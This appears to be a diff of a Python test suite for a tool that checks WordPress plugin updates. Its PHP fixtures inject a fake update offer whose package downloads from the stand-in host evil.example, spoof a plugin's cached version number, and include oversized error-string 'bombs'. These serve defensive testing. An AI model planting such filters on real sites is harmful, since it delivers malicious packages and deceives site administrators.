@@ -64,12 +64,21 @@ add_filter( 'pre_http_request', function ( $reply, $request, $url ) {
 INVENTS = r"""<?php
 add_filter( 'site_transient_update_plugins', function ( $value ) {
 	if ( ! is_object( $value ) ) { return $value; }
-	foreach ( array( 'harbour-forms' => 'downloads.wordpress.org/plugin', 'orchard-seo' => 'evil.example' ) as $slug => $at ) {
+	$from = array( 'harbour-forms' => 'downloads.wordpress.org/plugin', 'orchard-seo' => 'evil.example' );
+	foreach ( $from as $slug => $at ) {
 		$offer = array( 'slug' => $slug, 'new_version' => '9.9', 'package' => "https://$at/$slug.9.9.zip" );
 		$value->response["$slug/$slug.php"] = (object) $offer;
 	}
 	return $value;
 }, PHP_INT_MAX );
+"""
+LIES = r"""<?php
+add_action( 'init', function () {
+	require_once ABSPATH . 'wp-admin/includes/plugin.php';
+	$plugins = get_plugins();
+	$plugins['harbour-forms/harbour-forms.php']['Version'] = '9.9';
+	wp_cache_set( 'plugins', array( '' => $plugins ), 'plugins' );
+} );
 """
 BOMBS = {
     "errors": "str_repeat( 'Fatal error: ' . str_repeat( ' in /x ', 3 ), 1000 ) . str_repeat( ' in ', 6000 )",
@@ -155,6 +164,14 @@ def test_a_version_that_nobody_published_is_held_by_name(crew: Crew) -> None:
     assert (action, to) == ("hold", "9.9")
     assert why == "the site offers 9.9, which wordpress.org does not publish"
     assert found["orchard-seo"][0] == "hold"
+
+
+def test_the_version_is_the_files_whatever_wordpress_says(crew: Crew) -> None:
+    _, to, _ = changes(crew)["harbour-forms"]
+    implant(crew.fleet, LIES)
+    action, planned, why = changes(crew)["harbour-forms"]
+    assert (action, planned) == ("change", to)
+    assert "WordPress says that it is 9.9, its file says 1.8.2" in why
 
 
 @pytest.mark.parametrize("bomb", BOMBS)
